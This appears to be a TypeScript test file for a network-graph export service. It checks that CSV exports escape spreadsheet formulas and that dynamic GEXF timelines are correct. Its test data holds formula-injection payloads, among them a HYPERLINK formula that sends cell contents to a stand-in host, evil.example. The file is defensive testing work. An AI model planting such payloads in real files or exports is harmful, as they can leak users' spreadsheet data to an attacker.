import { UndirectedGraph } from 'graphology';
import { parse as parseGexf } from 'graphology-gexf';
import { DOMParser } from '@xmldom/xmldom';
import { parse as parseCsv } from 'csv-parse/sync';
import { unzipSync, strFromU8 } from 'fflate';
import { peerExchange, RECORD_INTERACTIONS, startTestServer, UPSERT_ACTORS, type TestServer } from './harness';

const HOSTILE = {
  link: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  sum: '+SUM(1;2)',
  at: '@SUM(A1:A9)',
  minus: '-2+3',
};

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
  const actors = await server.gql(UPSERT_ACTORS, {
    actors: [
      { id: 'fdn', name: HOSTILE.link, kind: 'FOUNDATION', region: HOSTILE.minus },
      { id: '+a', name: HOSTILE.sum, kind: 'INTERMEDIARY' },
      { id: 'b', name: HOSTILE.at, kind: 'INTERMEDIARY' },
      { id: 'c', name: 'Plain', kind: 'INTERMEDIARY' },
    ],
  });
  expect(actors.errors).toBeUndefined();
  const recorded = await server.gql(RECORD_INTERACTIONS, {
    interactions: [
      peerExchange('2019-09-10', 'fdn', ['+a']),
      peerExchange('2020-09-10', '+a', ['b']),
      peerExchange('2021-09-10', 'b', ['c']),
      peerExchange('2022-09-10', 'c', ['fdn']),
    ],
  });
  expect(recorded.errors).toBeUndefined();
});
afterAll(() => server.stop());

const window = 'from=2019-08-01&to=2023-08-01';

async function csvRows(path: string): Promise<Record<string, string>[]> {
  const response = await fetch(`${server.url}${path}`);
  expect(response.status).toBe(200);
  return parseCsv(await response.text(), { columns: true });
}

describe('CSV exports neutralise formulas (OWASP: a leading quote)', () => {
  it('csv-nodes: names and regions starting with = + - @ get a leading quote; numbers stay numbers', async () => {
    const rows = await csvRows(`/export/csv-nodes?${window}`);
    expect(rows.map((row) => [row.id, row.name, row.region, row.degree])).toEqual([
      ["'+a", `'${HOSTILE.sum}`, '', '2'],
      ['b', `'${HOSTILE.at}`, '', '2'],
      ['c', 'Plain', '', '2'],
      ['fdn', `'${HOSTILE.link}`, `'${HOSTILE.minus}`, '2'],
    ]);
  });

  it('csv-edges and the csv zip: ids too', async () => {
    const edges = await csvRows(`/export/csv-edges?${window}`);
    expect(edges.map((row) => [row.source, row.target, row.weight])).toEqual([
      ["'+a", 'b', '1'],
      ["'+a", 'fdn', '1'],
      ['b', 'c', '1'],
      ['c', 'fdn', '1'],
    ]);
    const zip = unzipSync(new Uint8Array(await (await fetch(`${server.url}/export/csv?${window}`)).arrayBuffer()));
    const nodes: Record<string, string>[] = parseCsv(strFromU8(zip['nodes.csv']!), { columns: true });
    expect(nodes.find((row) => row.id === 'fdn')?.name).toBe(`'${HOSTILE.link}`);
    expect(strFromU8(zip['edges.csv']!)).not.toMatch(/^\+/m);
  });
});

describe('gexf-dynamic of rolling and expanding series', () => {
  async function dynamicGexf(query: string): Promise<{ graph: UndirectedGraph; doc: Document }> {
    const response = await fetch(`${server.url}/export/gexf-dynamic?${query}`);
    const text = await response.text();
    expect({ status: response.status, start: text.slice(0, 5) }).toEqual({ status: 200, start: '<?xml' });
    return {
      graph: parseGexf(UndirectedGraph, text, { allowUndeclaredAttributes: true }),
      doc: new DOMParser().parseFromString(text, 'text/xml'),
    };
  }
  const spellsOf = (doc: Document, id: string) => {
    const node = [...Array.from(doc.getElementsByTagName('node'))].find((n) => n.getAttribute('id') === id)!;
    return Array.from(node.getElementsByTagName('spell')).map((s) => `${s.getAttribute('start')}..${s.getAttribute('end')}`);
  };

  it('rolling two-year windows: every window that ends later is on the timeline, and the file parses back', async () => {
    const { graph, doc } = await dynamicGexf('from=2019-08-01&to=2023-08-01&step=SCHOOL_YEAR&windowSize=2');
    expect(graph.order).toBe(4);
    expect(graph.size).toBe(4);
    expect(doc.getElementsByTagName('graph')[0]!.getAttribute('start')).toBe('2019-08-01');
    // windows 2019–21, 2020–22, 2021–23 shown over their last year; 2022–23 (clipped) adds no time
    expect(spellsOf(doc, 'fdn')).toEqual(['2019-08-01..2021-08-01', '2022-08-01..2023-08-01']);
    expect(spellsOf(doc, 'b')).toEqual(['2019-08-01..2023-08-01']);
  });

  it('expanding windows: one growing network, each window over its newest year', async () => {
    const { graph, doc } = await dynamicGexf('from=2019-08-01&to=2023-08-01&step=SCHOOL_YEAR&windowSize=2&expanding=true');
    expect(graph.order).toBe(4);
    expect(spellsOf(doc, 'fdn')).toEqual(['2019-08-01..2023-08-01']);
    expect(spellsOf(doc, 'c')).toEqual(['2021-08-01..2023-08-01']);
  });
});
